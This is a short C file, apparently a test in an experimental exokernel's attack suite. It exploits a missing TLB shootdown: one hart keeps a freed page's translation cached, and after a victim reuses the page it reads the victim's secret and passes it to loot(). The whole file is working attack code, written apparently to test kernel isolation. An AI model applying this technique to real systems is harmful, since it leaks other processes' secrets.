// The kernel tells no other hart when a binding is broken: what its TLB remembers it goes on using.
#include "attack/attack.h"

#define RW (PTE_R | PTE_W)

static volatile u64 looked, found;

// On hart 1: reads the place again and again, so that the TLB has no reason to forget it.
static void look(u64 place) {
    for (;; looked++) {
        u64 word = *(volatile u64 *)place;
        if (word && !found) found = word;
    }
}

void attack_tlb(void) {
    struct exo_ret page = exo_page_alloc(0, 0);
    if (rt_map(own_root(), PLACE(0), (ppn_t)page.val, RW) || !run_on(1, look, PLACE(0))) return;
    while (looked < 100) continue;
    exo_unbind(own_root(), PLACE(0), 0);
    exo_page_free(page.val); // the head of the free list: the victim takes it, and reads its secret there
    for (u32 i = 0; !found && i < 100; i++) nap(10);
    loot(found);
}
